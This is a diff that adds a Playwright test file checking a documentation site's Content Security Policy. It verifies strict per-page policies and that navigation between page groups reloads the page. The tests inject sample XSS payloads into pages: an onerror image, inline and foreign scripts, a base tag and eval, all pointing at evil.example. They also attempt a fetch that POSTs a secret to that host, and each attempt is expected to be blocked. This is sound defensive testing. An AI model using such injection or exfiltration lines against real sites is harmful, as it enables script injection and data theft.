@@ -1,0 +1,160 @@
+import {readFileSync} from 'node:fs';
+import path from 'node:path';
+import type {Page} from '@playwright/test';
+import {filesIn} from '../../scripts/hosting/filesIn';
+import {policyGroup} from '../../src/lib/hosting/contentPolicy';
+import {inspectPage} from '../../src/plugins/content-policy/pagePolicy';
+import {open} from './support/pages';
+import {originOf} from './support/servers';
+import {expect, test} from './support/test';
+
+const policyOf = (html: string) =>
+  /<meta http-equiv="Content-Security-Policy" content="([^"]*)">/.exec(
+    html,
+  )?.[1];
+
+test('every file of the site that is a page carries the policy of its group, before anything that could run', async () => {
+  const files = (await filesIn(path.resolve('build'))).filter((file) =>
+    file.endsWith('.html'),
+  );
+  const policies = new Map<string, Set<string>>();
+  for (const file of files) {
+    const html = readFileSync(path.resolve('build', file), 'utf8');
+    const policy = policyOf(html) ?? '';
+    const {group, needs} = inspectPage(html);
+    policies.set(group, (policies.get(group) ?? new Set()).add(policy));
+    expect(html.indexOf(policy), file).toBeLessThan(html.indexOf('<script'));
+    for (const source of Object.values(needs).flat()) {
+      expect(policy, file).toContain(source);
+    }
+    const [scripts = ''] = /script-src [^;]*/.exec(policy) ?? [];
+    expect(scripts, file).toContain("'sha256-");
+    expect(scripts, file).not.toMatch(/unsafe|\*|https?:|data:|blob:/);
+  }
+  expect([...policies.keys()].sort()).toEqual(['api', 'desk', 'reading']);
+  expect([...policies.values()].map(({size}) => size)).toEqual([1, 1, 1]);
+  expect(files.length).toBeGreaterThan(100);
+});
+
+test.describe('what somebody smuggles into a page', () => {
+  test.use({provoked: /Content Security Policy|violates/i});
+
+  for (const pathname of ['/guide/', '/zh/tool/', '/guide/api/']) {
+    test(`does not run at ${pathname}`, async ({page}) => {
+      await open(page, `${originOf('own')}${pathname}`);
+      const refused = await page.evaluate(async () => {
+        const seen: string[] = [];
+        document.addEventListener(
+          'securitypolicyviolation',
+          ({effectiveDirective}) => seen.push(effectiveDirective),
+        );
+        const holder = document.createElement('div');
+        holder.innerHTML =
+          '<img src="data:," onerror="globalThis.smuggled = true">';
+        const inline = document.createElement('script');
+        inline.textContent = 'globalThis.smuggled = true';
+        const foreign = document.createElement('script');
+        foreign.src = 'https://evil.example/a.js';
+        const base = document.createElement('base');
+        base.href = 'https://evil.example/';
+        document.body.append(holder, inline, foreign, base);
+        try {
+          // What this test is about.
+          globalThis.eval('globalThis.smuggled = true');
+        } catch {
+          seen.push('eval threw');
+        }
+        await new Promise((resolve) => setTimeout(resolve, 500));
+        return {seen, smuggled: 'smuggled' in globalThis};
+      });
+      expect(refused.smuggled).toBe(false);
+      expect(new Set(refused.seen)).toEqual(
+        new Set([
+          'base-uri',
+          'eval threw',
+          'script-src',
+          'script-src-attr',
+          'script-src-elem',
+        ]),
+      );
+    });
+  }
+
+  test('sends nothing from a page for credentials', async ({page}) => {
+    await open(page, `${originOf('own')}/tool/dropbox/request`);
+    const outcome = await page.evaluate(async () =>
+      fetch('https://evil.example/', {method: 'POST', body: 'secret'}).then(
+        () => 'sent',
+        () => 'refused',
+      ),
+    );
+    expect(outcome).toBe('refused');
+  });
+});
+
+/** Whether this is still the document that was marked, so that no page was loaded in between. */
+const mark = async (page: Page) =>
+  page.evaluate(() => {
+    document.documentElement.dataset.marked = '';
+  });
+const isMarked = async (page: Page) =>
+  page.evaluate(() => 'marked' in document.documentElement.dataset);
+
+const policyShown = async (page: Page) =>
+  page
+    .locator('meta[http-equiv="Content-Security-Policy"]')
+    .getAttribute('content');
+
+test('a reader who goes to pages for credentials and back is always under the policy of the page', async ({
+  page,
+}) => {
+  await open(page, `${originOf('own')}/guide/`);
+  const reading = await policyShown(page);
+  await mark(page);
+  await page
+    .getByRole('contentinfo')
+    .getByRole('link', {name: 'Get a token'})
+    .click();
+  await expect(page.locator('html')).not.toHaveAttribute('data-marked');
+  await page.waitForSelector('html[data-has-hydrated="true"]');
+  await expect(page).toHaveURL(`${originOf('own')}/tool/`);
+  const desk = await policyShown(page);
+  expect(desk).not.toBe(reading);
+  expect(policyGroup(new URL(page.url()).pathname)).toBe('desk');
+  await page.goBack();
+  await expect(page).toHaveURL(`${originOf('own')}/guide/`);
+  await expect
+    .poll(async () => policyShown(page), {message: 'the policy for reading'})
+    .toBe(reading);
+});
+
+test('a reader inside one group of pages stays in the page that is loaded', async ({
+  page,
+}) => {
+  await open(page, `${originOf('own')}/guide/`);
+  await mark(page);
+  await page
+    .getByRole('navigation', {name: 'Main'})
+    .getByRole('link', {name: 'FAQ'})
+    .click();
+  await expect(page).toHaveURL(`${originOf('own')}/faq/`);
+  expect(await isMarked(page)).toBe(true);
+});
+
+test('what leads to another group without a link loads the page at its beginning', async ({
+  page,
+}) => {
+  await open(page, `${originOf('own')}/guide/drivers/onedrive`);
+  await page.evaluate(() => {
+    window.scrollTo(0, 2000);
+  });
+  await mark(page);
+  await page.evaluate(() => {
+    history.pushState(null, '', '/tool/');
+    dispatchEvent(new PopStateEvent('popstate', {state: null}));
+  });
+  await expect(page.locator('html')).not.toHaveAttribute('data-marked');
+  await page.waitForSelector('html[data-has-hydrated="true"]');
+  await expect(page).toHaveURL(`${originOf('own')}/tool/`);
+  expect(await page.evaluate(() => window.scrollY)).toBe(0);
+});
